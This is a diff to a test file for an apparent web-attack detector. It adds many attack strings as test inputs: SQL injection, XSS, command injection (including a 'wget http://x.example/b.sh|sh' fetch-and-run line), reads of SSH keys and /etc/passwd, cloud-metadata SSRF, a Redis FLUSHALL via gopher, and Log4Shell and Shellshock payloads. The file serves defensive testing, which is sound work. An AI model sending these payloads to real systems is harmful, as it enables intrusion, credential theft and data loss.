@@ -16,6 +16,8 @@ import {
   F_WP_AUTHOR,
   F_XSS,
   F_BAD_UA,
+  F_RCE,
+  F_SSRF,
   percentDecode,
 } from '@core/detect/content/classify';
 import { alertsOf, req, rulesOf, run } from './helpers';
@@ -59,8 +61,84 @@ describe('content classification', () => {
     ['file=../../etc/passwd', F_TRAVERSAL],
     ['x=${jndi:ldap://evil/a}', F_CVE],
     ['author=2', F_WP_AUTHOR],
+    // Injection forms the first signatures missed (found by the OWASP CRS corpus, content-corpora.test.ts).
+    ['id=1)::int', F_SQLI],
+    ['user[$ne]=admin', F_SQLI],
+    ['q=%7B%22%24gt%22%3A%22%22%7D', F_SQLI],
+    ['var=%27%3bprint%27', F_SQLI],
+    ['test=;DROP%2F%2Atest%2A%2FTABLE+test%3B', F_SQLI],
+    ['id=9999+or+/*!50000select+1*/', F_SQLI],
+    ['test=select+if(x', F_SQLI],
+    ['q=x%22%20autofocus%20onfocusin%3Dalert', F_XSS],
+    ['x=%5B%5D.sort.call%60%24%7Balert%7D1337%60', F_XSS],
+    ['x=url%28javascript%3Aalert%281%29%29', F_XSS],
+    ['s=/etc/sudoers', F_TRAVERSAL],
+    ['path_comp=.ssh/id_rsa', F_TRAVERSAL],
+    ['cmd=%3Bcat%20/etc/passwd', F_RCE | F_TRAVERSAL],
+    ['host=8.8.8.8|wget%20http://x/b.sh', F_RCE],
+    ['ip=127.0.0.1%26%26whoami', F_RCE],
+    ['x=$(id)', F_RCE],
+    ['x=%60uname%20-a%60', F_RCE],
+    ['c=bash%20-c%20%22echo%20hi%22', F_RCE],
+    ['code=%3C%3Fphp%20system(%27id%27)%3B', F_RCE],
+    ['x=$_SERVER[%27HTTP_HOST%27]', F_RCE],
+    ['foo=O%3A8%3A%22stdClass%22%3A0%3A%7B%7D', F_RCE],
+    ['x=%24%7BT(java.lang.Runtime).getRuntime().exec(%27id%27)%7D', F_RCE],
+    ['q=%7B%7B7*7%7D%7D', F_RCE],
+    ['__proto__[admin]=1', F_RCE],
+    ['constructor%5Bprototype%5D%5Badmin%5D=1', F_RCE],
+    ['url=http://169.254.169.254/latest/meta-data/', F_SSRF],
+    ['u=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F', F_SSRF],
+    ['url=gopher://127.0.0.1:6379/_FLUSHALL', F_SSRF],
+    ['u=http://0xa9fea9fe/', F_SSRF],
+    ['x=${jndi:ldap://evil.example/a}', F_CVE],
   ])('query %s', (q, flags) => {
     expect(classifyQuery(q) & flags).toBe(flags);
+  });
+
+  // Look-alikes from real APIs and sites: parameter and field separators, text that mentions code, base64.
+  test.each([
+    'fields=name|id',
+    'sort=price|desc',
+    'a=1;id=2',
+    'q=how+to+delete+from+list',
+    'q=turn+on+the+lights',
+    'online=1&onboarding=done',
+    'utm_campaign=spring&utm_source=mail',
+    'next=https%3A%2F%2Fapp.example%2Fhome%3Fa%3D1',
+    'callback=https://partner.example/hook',
+    'sig=dGhpcyBpcyBub3Qgb25lPQ%2F%2Fonafe%3D',
+    'lang=id&region=ID',
+    'path=/images/2024/x.png',
+    'version=2&format=json',
+  ])('benign query %s has no injection flags', (q) => {
+    expect(classifyQuery(q) & (F_SQLI | F_XSS | F_TRAVERSAL | F_CVE | F_RCE | F_SSRF)).toBe(0);
+  });
+
+  test.each([
+    ['/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', F_RCE],
+    ['/index.php/__proto__/x', F_RCE],
+    ['/get/24+union+all+select+1,2,3', F_SQLI],
+  ])('path %s', (path, flags) => {
+    expect(classifyPath(path) & flags).toBe(flags);
+  });
+
+  test.each([
+    // Spam text quoting C ("c's assert() feature") and a crawler following a broken `file://` link.
+    '/presentations/vim/Result:+%22i+never+really+liked+c%27s+assert%28%29+feature.%22',
+    '/misc/nmh//%22file://$file/%22',
+  ])('benign path %s has no injection flags', (path) => {
+    expect(classifyPath(path) & (F_SQLI | F_XSS | F_RCE | F_SSRF)).toBe(0);
+  });
+
+  test('payloads in the user agent are flagged; browser and locale tokens are not', () => {
+    expect(classifyUserAgent("1' and sleep(5)#")).toBe(F_SQLI);
+    expect(classifyUserAgent('Mozilla/5.0 (Windows NT 10.0) <img onclick=alert(1)>')).toBe(F_XSS);
+    expect(classifyUserAgent('cat /root/.ssh/id_rsa')).toBe(F_TRAVERSAL);
+    expect(classifyUserAgent('&#x24;&#123;jndi:ldap://evil.example/w}')).toBe(F_CVE);
+    expect(classifyUserAgent('Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10')).toBe(0);
+    expect(classifyUserAgent('MyApp/3.1 (Android; version (11); build 7)')).toBe(0);
+    expect(classifyUserAgent('urlgrabber/3.10 yum/3.4.3')).toBe(0);
   });
 
   test.each(['page=2&limit=20', 'q=red%20dress&sort=price', 'q=black+and+white', "filter=tolower(name)%20eq%20'x'".replace("'x'", 'x'), 'ts=2024-05-01T10:00:00Z', 'redirect_uri=https%3A%2F%2Fapp.example%2Fcb'])(
@@ -73,7 +151,7 @@ describe('content classification', () => {
   test('offensive tools are bad user agents, ordinary clients are not', () => {
     expect(classifyUserAgent('Mozilla/5.00 (Nikto/2.1.5) (Evasions:None)')).toBe(F_BAD_UA);
     expect(classifyUserAgent('sqlmap/1.7#stable (https://sqlmap.org)')).toBe(F_BAD_UA);
-    expect(classifyUserAgent('() { :; }; /bin/bash -c id')).toBe(F_CVE);
+    expect(classifyUserAgent('() { :; }; /bin/bash -c id')).toBe(F_CVE | F_RCE);
     for (const ua of ['curl/8.5.0', 'python-requests/2.31', 'Go-http-client/1.1', 'okhttp/4.12.0', 'Mozilla/5.0 Firefox/126.0']) {
       expect(classifyUserAgent(ua)).toBe(0);
     }
@@ -118,6 +196,15 @@ describe('content rules in the detector', () => {
     expect(alertsOf(run(same))).toEqual([]);
     const walk = Array.from({ length: 5 }, (_, i) => req(i * 1_000, { path: '/', query: `author=${i + 1}` }));
     expect(rulesOf(run(walk))).toEqual(['wordpress-user-enum']);
+  });
+
+  test('one command-injection or SSRF request alerts, the first at least high, with the request as example', () => {
+    const [rce] = alertsOf(run([req(0, { path: '/api/ping', query: 'host=8.8.8.8%3Bwget%20http%3A%2F%2Fx.example%2Fb.sh%7Csh' })]), 'rce-probing');
+    expect(rce!.severity).toBe('high');
+    expect(rce!.reason).toMatch(/^remote code execution probe from 203\.0\.113\.7, e\.g\. \/api\/ping\?host=8\.8\.8\.8%3Bwget/);
+    const ssrf = run([req(0, { path: '/api/preview', query: 'url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F' })]);
+    expect(rulesOf(ssrf)).toEqual(['ssrf-probing']);
+    expect(alertsOf(run([req(0, { path: '/api/preview', query: 'url=https%3A%2F%2Fexample.com%2Fpage' })]))).toEqual([]);
   });
 
   test('three sensitive-file probes in a minute alert; one does not', () => {
